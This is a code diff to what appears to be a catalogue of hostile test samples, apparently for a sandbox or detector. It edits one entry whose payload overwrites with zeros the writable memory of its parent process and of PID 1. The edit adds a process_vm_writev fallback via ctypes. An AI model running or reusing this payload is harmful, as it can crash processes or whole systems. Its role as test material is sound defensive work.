@@ -53,19 +53,30 @@ for process in (os.getppid(), 1):
         family=_FAMILY,
         tries="Writes zeros over the writable memory of the process that started it and of process 1.",
         top="""
-import os
+import ctypes, os
+class Span(ctypes.Structure):
+    _fields_ = [('start', ctypes.c_size_t), ('size', ctypes.c_size_t)]
+library = ctypes.CDLL(None)
 for process in (os.getppid(), 1):
     try:
         maps = open(f'/proc/{process}/maps').read().splitlines()
-        memory = os.open(f'/proc/{process}/mem', os.O_RDWR)
     except OSError:
         continue
+    try:
+        memory = os.open(f'/proc/{process}/mem', os.O_RDWR)
+    except OSError:
+        memory = None
     for line in maps:
         words = line.split()
         if 'rw' in words[1]:
             start, end = (int(part, 16) for part in words[0].split('-'))
+            zeros = ctypes.create_string_buffer(end - start)
             try:
-                os.pwrite(memory, bytes(end - start), start)
+                if memory is None:
+                    ours, theirs = Span(ctypes.addressof(zeros), end - start), Span(start, end - start)
+                    library.process_vm_writev(process, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
+                else:
+                    os.pwrite(memory, zeros, start)
             except (OSError, OverflowError):
                 pass
 """,
